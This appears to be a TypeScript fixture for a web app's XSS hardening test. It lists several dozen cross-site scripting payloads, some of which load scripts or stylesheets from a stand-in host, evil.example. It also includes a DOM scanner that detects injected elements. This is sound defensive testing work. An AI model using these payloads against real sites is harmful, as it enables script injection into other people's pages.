/**
 * Cross-site scripting vectors for the hardening e2e test: script tags, event handlers, `javascript:` and
 * `data:` URLs in HTML and markdown links, SVG/MathML, frames, style/`expression`, HTML entities and other
 * encodings, markdown autolinks and reference links, unicode/bidi tricks, broken tags and template
 * injection. Every payload would call `alert`/`confirm`/`prompt`, load a script, or leave an element with a
 * handler behind if it were ever rendered as HTML.
 */
export const xssVectors: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(3)>',
  '<svg onload=alert(4)>',
  '<svg><script>alert(5)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>',
  '<iframe src="javascript:alert(7)"></iframe>',
  '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
  '<body onload=alert(9)>',
  '<details open ontoggle=alert(10)>',
  '<a href="javascript:alert(11)">klik hier</a>',
  '[klik hier](javascript:alert(12))',
  '[klik hier](JaVaScRiPt:alert(13))',
  '[klik hier](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=)',
  '[klik hier](vbscript:msgbox(15))',
  '[klik hier](&#106;avascript:alert(16))',
  '<javascript:alert(17)>',
  '<a href="&#x6A;avascript:alert(18)">klik</a>',
  '![plaatje](javascript:alert(19))',
  '![plaatje](https://evil.example/x.png" onerror="alert(20))',
  '[link](https://example.org" onmouseover="alert(21))',
  '<div style="background:url(javascript:alert(22))">stijl</div>',
  '<p style="width: expression(alert(23))">stijl</p>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data="javascript:alert(26)"></object>',
  '<embed src="javascript:alert(27)">',
  '<form action="javascript:alert(28)"><button>verstuur</button></form>',
  '<input autofocus onfocus=alert(29)>',
  '<marquee onstart=alert(30)>tekst</marquee>',
  '<video><source onerror=alert(31)></video>',
  '<base href="javascript:alert(32)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(33)">',
  '&lt;script&gt;alert(34)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(35)&#62;',
  '%3Cscript%3Ealert(36)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(37)\\u003c/script\\u003e',
  '<scr<script>ipt>alert(38)</scr</script>ipt>',
  '<img src=x onerror=alert(39)//',
  '<<img src=x onerror=alert(40)>>',
  '"><img src=x onerror=alert(41)>',
  "'><svg/onload=alert(42)>",
  "{{constructor.constructor('alert(43)')()}}",
  '${alert(44)} en {alert(45)}',
  "{@html '<img src=x onerror=alert(46)>'}",
  '\u202Egnp.exe <img src=x onerror=alert(47)> \u202C',
  '<scr\u200Bipt>alert(48)</scr\u200Bipt>',
  '<a href="https://example.org" onclick=alert(49)>gewoon een link</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(50)>">',
  '<template><img src=x onerror=alert(51)></template>',
  '<svg><a xlink:href="javascript:alert(52)"><text x=20 y=20>svg-link</text></a></svg>',
  '<math href="javascript:alert(53)">wiskunde</math>',
  '`<img src=x onerror=alert(54)>`',
  '```html\n<script>alert(55)</script>\n```',
  '<!--><img src=x onerror=alert(56)>-->',
  '<![CDATA[<script>alert(57)</script>]]>',
  '<x onpointerover=alert(58)>beweeg hier</x>',
  '[ref]: javascript:alert(59)\n\n[klik hier][ref]',
  '<https://example.org/"><img src=x onerror=alert(60)>>',
  '[a](<javascript:alert(61)>)',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNjIpPg==">',
];

/** Vectors that fit on one line in `max` characters (with room for a prefix): titles, names, descriptions. */
export function singleLineVectors(max: number): string[] {
  return xssVectors.filter((v) => !v.includes('\n') && v.length <= max);
}

/**
 * Runs in the page: every element or attribute that injected content could have produced. The app itself
 * has no inline handlers, frames, objects, `javascript:`/`data:` links or foreign images.
 */
export function findInjectedElements(): string[] {
  const found: string[] = [];
  const unsafeUrl = (value: string) => {
    // Browsers ignore spaces and control characters inside a scheme.
    const compact = [...value]
      .filter((c) => c.charCodeAt(0) > 32)
      .join('')
      .toLowerCase();
    return compact.startsWith('javascript:') || compact.startsWith('vbscript:') || compact.startsWith('data:');
  };
  const describe = (el: Element) => `<${el.tagName.toLowerCase()}> ${el.outerHTML.slice(0, 120)}`;
  for (const el of Array.from(document.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (['iframe', 'frame', 'object', 'embed', 'base', 'math', 'marquee', 'video', 'audio', 'source'].includes(tag))
      found.push(describe(el));
    if (tag === 'script' && el.closest('body') && !(el as HTMLScriptElement).src) found.push(describe(el));
    if (tag === 'script' && (el as HTMLScriptElement).src && !(el as HTMLScriptElement).src.startsWith(location.origin))
      found.push(describe(el));
    if ((tag === 'style' || tag === 'link' || tag === 'meta') && el.closest('body')) found.push(describe(el));
    if (tag === 'img' && !(el as HTMLImageElement).src.startsWith(location.origin)) found.push(describe(el));
    if (tag === 'svg' && el.querySelector('script, a, foreignObject')) found.push(describe(el));
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${describe(el)} [${name}]`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background'].includes(name)) {
        if (name === 'srcdoc' || unsafeUrl(attr.value)) found.push(`${describe(el)} [${name}]`);
      }
      if (name === 'style' && /expression|javascript:|url\(/i.test(attr.value)) found.push(`${describe(el)} [style]`);
    }
  }
  return found;
}
